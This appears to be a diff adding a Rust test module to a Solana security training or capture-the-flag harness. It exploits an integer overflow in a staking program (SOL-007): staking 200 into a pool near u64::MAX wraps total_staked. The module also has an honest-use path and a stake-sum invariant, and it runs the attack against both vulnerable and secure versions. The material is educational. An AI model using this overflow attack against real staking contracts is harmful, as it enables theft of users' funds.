@@ -0,0 +1,165 @@
+//! A stake that pushes total_staked past u64::MAX wraps it to almost nothing
+
+use anyhow::{ensure, Result as AnyResult};
+use borsh::{to_vec, BorshDeserialize};
+use lab_domain::{StakingPool, UserStake};
+use lab_instructions::arithmetic_errors::{calculate_rewards_ix, stake_ix};
+use lab_svm::Svm;
+use solana_program::entrypoint::ProcessInstruction;
+use solana_program::pubkey::Pubkey;
+
+use super::{deploy, fund, program_account};
+use crate::ctf::{self, Goal};
+use crate::invariants::{owned, Invariant};
+use crate::{attacker, fixtures, victim, vulnerability, Harness, Version};
+
+/// staking 200 into a pool 100 short of u64::MAX wraps total_staked to 99
+#[vulnerability(
+    id = "SOL-007",
+    category = "ArithmeticOverflow",
+    severity = "High",
+    difficulty = "Beginner",
+    rejection = "Arithmetic(Overflow)",
+    honest_use = honest_use,
+    reference(
+        title = "The Rust Book: integer overflow",
+        url = "https://doc.rust-lang.org/book/ch03-02-data-types.html#integer-overflow",
+    ),
+    reference(
+        title = "Neodyme: Solana common pitfalls",
+        url = "https://blog.neodyme.io/posts/solana_common_pitfalls",
+    )
+)]
+fn exploit(harness: &mut Harness) -> AnyResult<()> {
+    match harness.version() {
+        Version::Vulnerable => attack(harness, arithmetic_errors::process_instruction),
+        Version::Secure => attack(harness, arithmetic_errors_secure::process_instruction),
+    }
+}
+
+const TOTAL_STAKED: u64 = u64::MAX - 100;
+
+fn attack(svm: &mut Svm, program: ProcessInstruction) -> AnyResult<()> {
+    let program_id = deploy(svm, "arithmetic_errors", program);
+    let pool = StakingPool {
+        total_staked: TOTAL_STAKED,
+        reward_rate: 1,
+        last_update: 0,
+    };
+    let pool = program_account(
+        svm,
+        fixtures::address("arithmetic_errors/pool"),
+        &program_id,
+        to_vec(&pool)?,
+        0,
+    );
+    let stake = UserStake::new(0, 0);
+    let stake = program_account(
+        svm,
+        fixtures::address("arithmetic_errors/stake"),
+        &program_id,
+        to_vec(&stake)?,
+        0,
+    );
+    let attacker_key = fund(svm, &attacker());
+
+    // total_staked leads the pool's data
+    let flag = ctf::plant(
+        svm,
+        program_id,
+        Goal::Decrease {
+            account: pool,
+            offset: 0,
+        },
+    )?;
+
+    svm.send(
+        &[stake_ix(program_id, pool, stake, attacker_key, 200)],
+        &[&attacker()],
+    )?;
+
+    let data = &svm.get_account(&pool).expect("pool exists").data;
+    let total_staked = StakingPool::try_from_slice(data)?.total_staked;
+    ensure!(
+        total_staked < TOTAL_STAKED,
+        "total_staked did not wrap: {total_staked}"
+    );
+    ctf::capture(svm, &flag)
+}
+
+/// A modest stake into a modest pool, then a look at the rewards it earns
+fn honest_use(harness: &mut Harness) -> AnyResult<()> {
+    let program = match harness.version() {
+        Version::Vulnerable => arithmetic_errors::process_instruction,
+        Version::Secure => arithmetic_errors_secure::process_instruction,
+    };
+    let program_id = deploy(harness, "arithmetic_errors", program);
+    let pool = StakingPool {
+        total_staked: 1_000,
+        reward_rate: 1,
+        last_update: 0,
+    };
+    let pool = program_account(
+        harness,
+        fixtures::address("arithmetic_errors/pool"),
+        &program_id,
+        to_vec(&pool)?,
+        0,
+    );
+    let stake = UserStake::new(0, 0);
+    let stake = program_account(
+        harness,
+        fixtures::address("arithmetic_errors/stake"),
+        &program_id,
+        to_vec(&stake)?,
+        0,
+    );
+    let victim_key = fund(harness, &victim());
+
+    harness.send(
+        &[
+            stake_ix(program_id, pool, stake, victim_key, 1_000),
+            calculate_rewards_ix(program_id, pool, stake, victim_key),
+        ],
+        &[&victim()],
+    )?;
+    Ok(())
+}
+
+/// What the example's accounts must add up to
+pub(crate) static INVARIANTS: &[&dyn Invariant] = &[&Staked];
+
+/// The pools count at least every lamport staked with them; an honest pool
+/// may open with more, but never with less
+struct Staked;
+
+impl Invariant for Staked {
+    fn name(&self) -> &'static str {
+        "total_staked >= sum(user stakes)"
+    }
+
+    fn check(&self, svm: &Svm, program_id: &Pubkey) -> Result<(), String> {
+        // The two are told apart by length, as nothing else marks them
+        let (mut total_staked, mut stakes) = (0u128, 0u128);
+        for (_, account) in owned(svm, program_id) {
+            let mut data = account.data.as_slice();
+            match account.data.len() {
+                StakingPool::LEN => {
+                    let pool = StakingPool::deserialize(&mut data).map_err(|e| e.to_string())?;
+                    total_staked += u128::from(pool.total_staked);
+                }
+                UserStake::LEN => {
+                    let stake = UserStake::deserialize(&mut data).map_err(|e| e.to_string())?;
+                    stakes += u128::from(stake.amount);
+                }
+                _ => {}
+            }
+        }
+        if total_staked < stakes {
+            return Err(format!(
+                "total_staked is {total_staked}, but the stakes add up to {stakes}"
+            ));
+        }
+        Ok(())
+    }
+}